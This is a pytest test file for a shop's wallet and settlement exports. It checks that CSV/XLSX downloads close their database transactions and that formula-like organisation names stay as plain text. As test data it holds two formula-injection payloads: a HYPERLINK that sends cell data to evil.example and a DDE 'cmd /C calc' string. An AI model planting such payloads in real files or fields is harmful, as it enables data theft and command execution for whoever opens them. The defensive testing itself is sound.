"""Downloads (CSV and XLSX) as an attacker and the next user meet them (issue 11, H3 and M2): a
streamed download leaves no transaction open behind it, and no cell a user typed becomes a formula."""

import sqlite3

import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.engine import make_url

from shop.db import write_transactions
from tests.helpers import grant_wallet, make_org, make_programme, member, sign_in
from wallet import ledger


@pytest.fixture(autouse=True)
def in_2026(today):
    today("2026-03-02")


def assert_no_transaction_left_open(database_url):
    """What another worker meets right after the download: on SQLite the write lock is free at once
    (no waiting: a timeout of 0); on PostgreSQL no connection sits idle in a transaction."""
    if database_url.startswith("sqlite"):
        other = sqlite3.connect(make_url(database_url).database, timeout=0, isolation_level=None)
        try:
            other.execute("BEGIN IMMEDIATE")
            other.execute("ROLLBACK")
        finally:
            other.close()
        return
    engine = create_engine(database_url)
    with engine.connect() as connection:
        idle = connection.scalar(
            text(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                "AND state LIKE 'idle in transaction%' AND pid <> pg_backend_pid()"
            )
        )
    engine.dispose()
    assert idle == 0


def download(client, url):
    """The body of a download, read as a server's worker sends it. (The ``session`` fixture makes
    this test's own reads deferred; a worker starts from the default, a transaction that may write.)"""
    with write_transactions():
        response = client.get(url)
        body = response.get_data(as_text=True)
        response.close()
    assert response.status_code == 200
    return body


@pytest.mark.ledger_alone  # a hold with no order behind it: the wallet's lines are what is downloaded
def test_after_a_wallet_csv_download_other_users_can_write_at_once(client, session, database_url):
    make_programme(session)
    org, other = make_org(session), make_org(session)
    grant_wallet(session, org)
    ledger.hold_vouchers(session, 2026, org.id, 12_345, ref=("order", 9), actor_id=None)
    session.commit()
    sign_in(client, member(org))
    rows = download(client, "/wallet/ledger.csv?year=2026").lstrip("\ufeff").strip().splitlines()
    assert rows[1].endswith(",-123.45,49876.55") and rows[2].endswith(",50000.00,50000.00")
    assert_no_transaction_left_open(database_url)
    # and a write through the app by someone else goes through
    sign_in(client, member(other))
    assert client.post("/wallet/apply", data={"year": "2026"}).status_code == 302


HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B2&C2,"查看明细")'
CALC = '+cmd|" /C calc"!A0'


@pytest.fixture
def hostile_claim(session, app):
    """A claimed order between an enterprise and a provider whose names are formulas."""
    from shop.states import Role
    from tests.helpers import make_claim, make_order, make_staff, token_for

    make_programme(session)
    enterprise = make_org(session, name=HYPERLINK)
    grant_wallet(session, enterprise)
    provider = make_org(session, "provider", name=CALC)
    make_claim(
        session, provider, [make_order(session, enterprise, provider, amount_fen=10_000_00)], app.config["UPLOAD_DIR"]
    )
    return token_for(session, make_staff(session, Role.AUTHORITY))


def test_names_that_look_like_formulas_stay_text_in_the_settlement_csv(client, hostile_claim, database_url):
    import csv
    import io

    with write_transactions():
        response = client.get("/api/v1/settlement-dates/2026-06-30/export?format=csv", headers=hostile_claim)
        body = response.get_data(as_text=True)
        response.close()
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells and "'" + CALC in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    order = next(r for r in rows[1:] if r[5].startswith("#"))
    assert order[9:11] == ["10000.00", "4000.00"]  # amounts are still plain numbers
    assert_no_transaction_left_open(database_url)


def test_names_that_look_like_formulas_are_text_cells_in_the_settlement_xlsx(client, hostile_claim):
    import io

    from openpyxl import load_workbook

    response = client.get("/api/v1/settlement-dates/2026-06-30/export?format=xlsx", headers=hostile_claim)
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {HYPERLINK, CALC} <= texts
    amounts = [c for c in cells if c.number_format == "#,##0.00" and c.value is not None]
    assert amounts and all(c.data_type == "n" for c in amounts)
